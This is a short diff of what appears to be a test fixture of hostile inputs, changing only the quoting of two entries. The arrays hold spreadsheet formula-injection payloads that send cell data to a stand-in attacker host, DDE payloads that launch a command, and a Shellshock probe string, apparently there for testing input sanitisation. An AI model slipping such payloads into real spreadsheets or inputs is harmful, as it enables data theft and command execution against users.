@@ -21,7 +21,7 @@ const SPREADSHEET = [
   '\uff20SUM(A1)',
   '=HYPERLINK("http://attacker.invalid/?"&A1,"click")',
   "=cmd|' /C calc'!A0",
-  "=DDE(\"cmd\";\"/C calc\";\"x\")",
+  '=DDE("cmd";"/C calc";"x")',
   '=WEBSERVICE("http://attacker.invalid/"&A1)',
   '=IMPORTXML("http://attacker.invalid","//a")',
   '"=1+1"',
@@ -192,7 +192,7 @@ const SHELL = [
   '$env:PATH',
   'a b  c',
   '#comment',
-  "x=(){ :;}; echo vulnerable",
+  'x=(){ :;}; echo vulnerable',
 ];
 
 const PATHS = [
